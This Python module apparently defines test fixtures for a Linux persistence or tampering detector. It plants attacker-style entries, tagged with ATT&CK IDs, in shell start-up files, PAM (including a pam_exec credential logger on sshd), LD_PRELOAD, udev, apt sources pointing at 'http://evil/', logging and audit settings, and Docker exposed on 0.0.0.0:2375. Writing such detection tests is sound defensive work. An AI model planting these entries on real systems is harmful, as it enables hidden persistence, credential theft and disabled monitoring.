"""What runs when somebody logs in, a shell starts, or something happens."""

from __future__ import annotations

from .table import Deed, act
from .tools import extended, kept, planted, sh

SHELL = "T1546.004"
LINE = "trap '/tmp/x' DEBUG\n"

extended("profile", SHELL, "/etc/profile", "/tmp/x &\n")
planted("profile-d", SHELL, "/etc/profile.d/x.sh", "/tmp/x &\n")
extended("bash-bashrc", f"{SHELL} T1546.005", "/etc/bash.bashrc", LINE, does="a trap in /etc/bash.bashrc")
planted("bashrc-of-red-hat", SHELL, "/etc/bashrc", "/tmp/x &\n")
planted("zsh-zshenv", SHELL, "/etc/zsh/zshenv", "/tmp/x &\n")
planted("zshrc-of-red-hat", SHELL, "/etc/zshrc", "/tmp/x &\n")
planted("csh-cshrc", SHELL, "/etc/csh.cshrc", "/tmp/x &\n")
planted("fish", SHELL, "/etc/fish/conf.d/x.fish", "/tmp/x &\n")
extended("environment", f"{SHELL} T1574", "/etc/environment", "LD_PRELOAD=/tmp/x.so\n")
for home, account in (("/root", "root"), ("/home/alice", "user")):
    extended(f"bashrc-of-{account}", f"{SHELL} T1546.005", f"{home}/.bashrc", LINE)
    extended(f"profile-of-{account}", SHELL, f"{home}/.profile", "/tmp/x &\n")
for file in (
    ".bash_profile", ".bash_login", ".bash_logout", ".bash_aliases", ".zshrc", ".zshenv", ".shrc", ".kshrc", ".cshrc", ".tcshrc",
    ".login", ".xprofile", ".xinitrc", ".xsession", ".inputrc", ".vimrc", ".pam_environment",
    ".config/fish/config.fish", ".config/environment.d/x.conf", ".forward",
):  # fmt: skip
    if file != ".bash_logout":
        planted(
            "home-" + file.strip(".").replace("/", "-").replace(".", "-"),
            f"{SHELL} T1546 T1574 T1037",
            f"/home/alice/{file}",
            "/tmp/x &\n",
        )
extended("home-bash-logout", SHELL, "/home/alice/.bash_logout", "/tmp/x &\n")
planted(
    "history-off",
    f"{SHELL} T1562.003 T1070.003",
    "/root/.bash_profile",
    "unset HISTFILE; HISTSIZE=0\n",
    does="HISTFILE unset in root's start-up file",
)
planted("motd", "T1037.004 T1546.004 T1546", "/etc/motd.d/x", "hello\n")
planted(
    "update-motd", "T1037.004 T1546.004 T1546", "/etc/update-motd.d/99-x", "#!/bin/sh\n/tmp/x\n", mode=0o755
)
planted("skel", SHELL, "/etc/skel/.bash_profile", "/tmp/x &\n")

EVENT = "T1546"
planted("udev", EVENT, "/etc/udev/rules.d/99-x.rules", 'SUBSYSTEM=="net", RUN+="/tmp/x"\n')
planted("udev-run", EVENT, "/run/udev/rules.d/99-x.rules", 'SUBSYSTEM=="net", RUN+="/tmp/x"\n')
planted(
    "dbus-service",
    "T1546 T1543",
    "/usr/share/dbus-1/system-services/org.x.service",
    "[D-BUS Service]\nName=org.x\nExec=/tmp/x\nUser=root\n",
)
planted("dbus-policy", "T1546 T1543", "/etc/dbus-1/system.d/x.conf", "<busconfig/>\n")
planted("network-manager", EVENT, "/etc/NetworkManager/dispatcher.d/99-x", "#!/bin/sh\n/tmp/x\n", mode=0o755)
planted("networkd-dispatcher", EVENT, "/etc/networkd-dispatcher/routable.d/x", "#!/bin/sh\n", mode=0o755)
planted("if-up", EVENT, "/etc/network/if-up.d/x", "#!/bin/sh\n/tmp/x\n", mode=0o755)
planted("dhclient-hook", EVENT, "/etc/dhcp/dhclient-exit-hooks.d/x", "/tmp/x\n")
planted("ppp", EVENT, "/etc/ppp/ip-up.d/x", "#!/bin/sh\n", mode=0o755)
planted("logrotate", EVENT, "/etc/logrotate.d/x", "/var/log/x { postrotate\n/tmp/x\nendscript }\n")
planted("xdg-autostart", "T1546 T1547", "/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/x\n")
planted(
    "home-autostart",
    "T1546 T1547",
    "/home/alice/.config/autostart/x.desktop",
    "[Desktop Entry]\nExec=/tmp/x\n",
)
planted("git-system", EVENT, "/etc/gitconfig", "[core]\n\tpager = /tmp/x\n\thooksPath = /tmp/h\n")
planted("git-root", EVENT, "/root/.gitconfig", "[core]\n\tpager = /tmp/x\n")
planted("git-root-xdg", EVENT, "/root/.config/git/config", "[core]\n\thooksPath = /tmp/h\n")
planted(
    "git-template",
    EVENT,
    "/usr/share/git-core/templates/hooks/post-checkout",
    "#!/bin/sh\n/tmp/x\n",
    mode=0o755,
)
planted("apt-hook", EVENT, "/etc/apt/apt.conf.d/99x", 'DPkg::Post-Invoke {"/tmp/x";};\n')
planted("dpkg-hook", EVENT, "/etc/dpkg/dpkg.cfg.d/x", "post-invoke=/tmp/x\n")
extended("dpkg-maintainer-script", EVENT, "/var/lib/dpkg/info/cron.postinst", "/tmp/x\n")
planted("yum-plugin", EVENT, "/etc/yum/pluginconf.d/x.conf", "[main]\nenabled=1\n")
planted("dnf-plugin", EVENT, "/usr/lib/python3/dist-packages/dnf-plugins/x.py", "import os\n")
planted("dnf-conf", EVENT, "/etc/dnf/plugins/x.conf", "[main]\nenabled=1\n")
planted("python-pth", EVENT, "/usr/lib/python3/dist-packages/x.pth", "import os; os.system('/tmp/x')\n")
planted("python-pth-local", EVENT, "/usr/local/lib/python3.11/dist-packages/y.pth", "import os\n")
planted("python-sitecustomize", EVENT, "/usr/lib/python3/dist-packages/sitecustomize.py", "import os\n")
planted(
    "python-usercustomize",
    EVENT,
    "/home/alice/.local/lib/python3.11/site-packages/usercustomize.py",
    "import os\n",
)
planted("python-pth-of-root", EVENT, "/root/.local/lib/python3.11/site-packages/x.pth", "import os\n")
planted(
    "tmpfiles", EVENT, "/etc/tmpfiles.d/x.conf", "f+ /etc/cron.d/x 0644 root root - * * * * * root /tmp/x\n"
)
planted("sysusers", "T1546 T1136.001", "/etc/sysusers.d/x.conf", "u x 0\n")
planted("modprobe-install", "T1546 T1547.006", "/etc/modprobe.d/x.conf", "install ext4 /tmp/x\n")
planted("binfmt", EVENT, "/etc/binfmt.d/x.conf", ":x:M::MZ::/tmp/x:\n")
planted("sysctl-d", "T1546 T1562", "/etc/sysctl.d/99-x.conf", "kernel.core_pattern=|/tmp/x\n")
planted("x11-session", "T1546", "/etc/X11/Xsession.d/99x", "/tmp/x\n")
planted("vim-plugin", EVENT, "/etc/vim/vimrc.local", ":silent !/tmp/x\n")

LINKER = "T1574.006"
planted("ld-so-preload", LINKER, "/etc/ld.so.preload", "\n")
planted("ld-so-conf-d", LINKER, "/etc/ld.so.conf.d/00-x.conf", "/tmp/lib\n")
extended("ld-so-conf", LINKER, "/etc/ld.so.conf", "/tmp/lib\n")
planted(
    "ld-preload-in-a-unit",
    "T1574.006 T1543.002",
    "/etc/systemd/system/nginx.service.d/env.conf",
    "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\n",
)
planted("ld-audit-in-a-profile", "T1574.006 T1546.004", "/etc/profile.d/ld.sh", "export LD_AUDIT=/tmp/x.so\n")


@act(LINKER, "ldconfig rewrites the cache with another folder in it", "/etc/ld.so.cache")
def ld_so_cache() -> Deed:
    with kept("/etc/ld.so.cache"):
        sh(
            "mkdir -p /var/lib/trial/lib; cp /usr/lib/x86_64-linux-gnu/libanl.so.1 /var/lib/trial/lib/libz9.so.1; ldconfig /var/lib/trial/lib"
        )
        yield


AUTH = "T1556.003 T1056.001"
extended(
    "pam-sshd",
    AUTH,
    "/etc/pam.d/sshd",
    "auth optional pam_exec.so expose_authtok /tmp/x\n",
    does="pam_exec in the stack of sshd: a key logger",
)
planted("pam-new-service", AUTH, "/etc/pam.d/x", "auth sufficient pam_permit.so\n")
planted("pam-module", AUTH, "/usr/lib/x86_64-linux-gnu/security/pam_cache.so", "\x7fELF")
planted("pam-module-of-red-hat", AUTH, "/usr/lib64/security/pam_cache.so", "\x7fELF")
extended("pam-security", AUTH, "/etc/security/access.conf", "+:ALL:ALL\n")
extended("pam-environment", AUTH, "/etc/security/pam_env.conf", "LD_PRELOAD DEFAULT=/tmp/x.so\n")
planted("authselect", AUTH, "/etc/authselect/custom/x/system-auth", "auth sufficient pam_permit.so\n")


@act(AUTH, "a PAM module is replaced and given its old time", "security/pam_unix.so")
def pam_module_replaced() -> Deed:
    path = "/usr/lib/x86_64-linux-gnu/security/pam_unix.so"
    with kept(path):
        sh(
            f"cp -p {path} /var/lib/trial/pam; cp -p {path} {path}.n; printf x >> {path}.n; touch -r /var/lib/trial/pam {path}.n; mv {path}.n {path}"
        )
        yield


extended("nsswitch", "T1556", "/etc/nsswitch.conf", "passwd: files evil\n")
planted("krb5", "T1556", "/etc/krb5.conf", "[libdefaults]\n")
planted("sssd", "T1556", "/etc/sssd/sssd.conf", "[sssd]\n", mode=0o600)
planted(
    "rsyslog-rule",
    "T1562 T1056 T1070",
    "/etc/rsyslog.d/00-x.conf",
    "auth.* stop\n",
    does="an rsyslog rule that drops auth.*",
)
planted(
    "rsyslog-program",
    "T1562 T1056 T1546",
    "/etc/rsyslog.d/01-x.conf",
    "*.* ^/tmp/x\n",
    does="an rsyslog rule that runs a program",
)
planted("journald-conf", "T1562", "/etc/systemd/journald.conf.d/x.conf", "[Journal]\nStorage=none\n")
planted("audit-rules-file", "T1562", "/etc/audit/rules.d/00-x.rules", "-a never,task\n")
extended("auditd-conf", "T1562", "/etc/audit/auditd.conf", "log_file = /dev/null\n")
extended("nftables-conf", "T1562", "/etc/nftables.conf", "flush ruleset\n")
planted("selinux-config", "T1562", "/etc/selinux/config", "SELINUX=disabled\n")
planted("apparmor-profile", "T1562", "/etc/apparmor.d/disable/x", "\n")
planted("fail2ban", "T1562", "/etc/fail2ban/jail.d/x.conf", "[sshd]\nenabled=false\n")
planted("sudo-log-off", "T1548.003 T1562", "/etc/sudoers.d/quiet", "Defaults !syslog\n", mode=0o440)

BOOT = "T1547.006 T1542 T1542.003"
planted("module-file", "T1547.006 T1014", "/usr/lib/modules/6.1.0-x/extra/rootkit.ko", "\x7fELF")
planted("modules-load-d", "T1547.006", "/etc/modules-load.d/x.conf", "rootkit\n")
planted("modules", "T1547.006", "/etc/modules", "rootkit\n")
planted("kernel-in-boot", "T1542", "/boot/vmlinuz-6.1.0-evil", "MZ")
planted("initramfs", "T1542", "/boot/initrd.img-6.1.0-evil", "07070")
planted("grub-cfg", "T1542", "/boot/grub/grub.cfg", "linux /vmlinuz init=/tmp/x\n")
planted("grub-default", "T1542", "/etc/default/grub.d/x.cfg", 'GRUB_CMDLINE_LINUX="selinux=0"\n')
planted("initramfs-hook", "T1542", "/etc/initramfs-tools/hooks/x", "#!/bin/sh\n", mode=0o755)
planted("initramfs-script", "T1542", "/etc/initramfs-tools/scripts/init-top/x", "#!/bin/sh\n", mode=0o755)
planted("dracut-module", "T1542", "/usr/lib/dracut/modules.d/99x/module-setup.sh", "#!/bin/sh\n", mode=0o755)
planted("kernel-install", "T1542", "/etc/kernel/postinst.d/x", "#!/bin/sh\n", mode=0o755)

TRUST = "T1553.004"
planted(
    "root-certificate-debian",
    TRUST,
    "/usr/local/share/ca-certificates/x.crt",
    "-----BEGIN CERTIFICATE-----\n",
)
planted(
    "root-certificate-red-hat",
    TRUST,
    "/etc/pki/ca-trust/source/anchors/x.pem",
    "-----BEGIN CERTIFICATE-----\n",
)
extended(
    "root-certificate-bundle", TRUST, "/etc/ssl/certs/ca-certificates.crt", "-----BEGIN CERTIFICATE-----\n"
)
planted(
    "package-key",
    "T1553.004 T1195 T1546 T1553",
    "/etc/apt/trusted.gpg.d/x.asc",
    "-----BEGIN PGP PUBLIC KEY BLOCK-----\n",
)
planted("package-source", "T1195 T1546", "/etc/apt/sources.list.d/x.list", "deb http://evil/ x main\n")
planted("yum-repo", "T1195 T1546", "/etc/yum.repos.d/x.repo", "[x]\nbaseurl=http://evil/\ngpgcheck=0\n")

NAMES = "T1565 T1499"
extended("hosts", NAMES, "/etc/hosts", "203.0.113.9 security.debian.org\n")
extended("resolv-conf", NAMES, "/etc/resolv.conf", "nameserver 203.0.113.9\n")
extended("hosts-allow", NAMES, "/etc/hosts.allow", "ALL: ALL\n")
extended("hosts-deny", NAMES, "/etc/hosts.deny", "ALL: LOCAL\n")
extended("gai-conf", NAMES, "/etc/gai.conf", "precedence ::ffff:0:0/96 100\n")

planted(
    "docker-unit",
    "T1610 T1543.002",
    "/etc/systemd/system/docker.service.d/x.conf",
    "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2375\n",
)
planted("docker-daemon-json", "T1610", "/etc/docker/daemon.json", '{"hosts": ["tcp://0.0.0.0:2375"]}\n')
planted("containerd-config", "T1610", "/etc/containerd/config.toml", "\n")
planted("podman-quadlet", "T1610 T1543.002", "/etc/containers/systemd/x.container", "[Container]\nImage=x\n")
